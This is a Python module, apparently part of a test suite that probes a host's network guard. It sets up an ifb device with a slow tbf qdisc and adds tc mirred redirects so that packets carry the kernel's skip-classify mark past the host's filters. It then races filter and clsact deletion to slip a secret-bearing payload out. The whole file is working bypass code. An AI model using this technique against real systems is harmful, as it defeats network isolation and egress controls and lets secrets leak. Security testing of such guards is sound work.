"""Packets that skip the host's filters: a detour over an ifb device marks them so.

A packet that an ifb device sends on carries the kernel's note that filters have seen it
(tc_skip_classify). The note crosses the veth, and the host's end does not ask its filters. A slow
qdisc (tbf) keeps packets on the ifb while the detour is taken away, or the way out's own filters
would remove the note.

`way`: `held` the value ends its segment, so that it waits for the next byte, and leaves only for
the guard to take it out. `unhooked` datagrams, while clsact is deleted without a pause: for
classifiers that are attached there.
"""

from __future__ import annotations

import socket
import subprocess
import time

from attacks.connection import drained, give_up
from attacks.inner import run
from attacks.target import Target, refused

ROUNDS = 3
AT_ONCE = 3
FILLING, DRAINING = 0.1, 2.5  # seconds
DETOUR = ("action", "mirred", "egress", "redirect", "dev", "ifb9")


def main(target: Target) -> None:
    """Make the device, then one way."""
    run("ip", "link", "add", "ifb9", "type", "ifb")
    run("ip", "link", "set", "ifb9", "up")
    slow = ("tbf", "rate", "16kbit", "burst", "1600", "latency", "20s")
    run("tc", "qdisc", "add", "dev", "ifb9", "root", *slow)
    run("tc", "qdisc", "add", "dev", target.device, "clsact", check=False)
    {"held": held, "unhooked": unhooked}[target.args["way"]](target)
    run("ip", "link", "del", "ifb9", check=False)


def redirect(target: Target) -> None:
    """Lead what goes to the sink over the ifb."""
    rule = ("u32", "match", "ip", "dport", str(target.port), "0xffff")
    where = ("dev", target.device, "egress", "pref", "7", "protocol", "ip")
    run("tc", "filter", "add", *where, *rule, *DETOUR)


def held(target: Target) -> None:
    """A detour for each of some connections."""
    message = target.payload[: target.payload.index(target.secret) + len(target.secret)]
    mac = bytes.fromhex(target.mac.replace(":", ""))
    for _ in range(ROUNDS):
        made = target.tcp()
        try:
            made.sendall(b"hello\n")
            drained(made)
            redirect(target)
            with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0) as out, refused():
                out.bind(("ifb9", 0))
                for _ in range(2):  # more than the qdisc's burst
                    out.send(mac + mac + b"\x08\x00" + b"." * 1400)
            with refused():
                made.sendall(message)
            time.sleep(0.01)
            run("tc", "filter", "del", "dev", target.device, "egress", "pref", "7", check=False)
            drained(made, 3.0)
        finally:
            give_up(made)


def unhooked(target: Target) -> None:
    """Take the hook away while packets enter the detour, and while they leave it."""
    hook = f"dev {target.device}"
    away = f"qdisc del {hook} clsact"
    rule = f"u32 match ip dport {target.port} 0xffff {' '.join(DETOUR)}"
    again = [
        away,
        f"qdisc add {hook} clsact",
        f"filter add {hook} egress pref 1 protocol ip {rule}",
    ]
    message = target.payload + b"." * 900
    for _ in range(ROUNDS):
        end = time.monotonic() + FILLING
        with socket.socket(target.af, socket.SOCK_DGRAM) as out:
            while time.monotonic() < end:
                batch(*again)
                for _ in range(AT_ONCE):
                    with refused():
                        out.sendto(message, (target.address, target.port))
        end = time.monotonic() + DRAINING
        while time.monotonic() < end:
            batch(away)


def batch(*lines: str) -> None:
    """Commands of tc in one process; what is refused is passed over."""
    text = "\n".join(lines) + "\n"
    subprocess.run(
        ["tc", "-force", "-batch", "-"], input=text.encode(), check=False, capture_output=True
    )
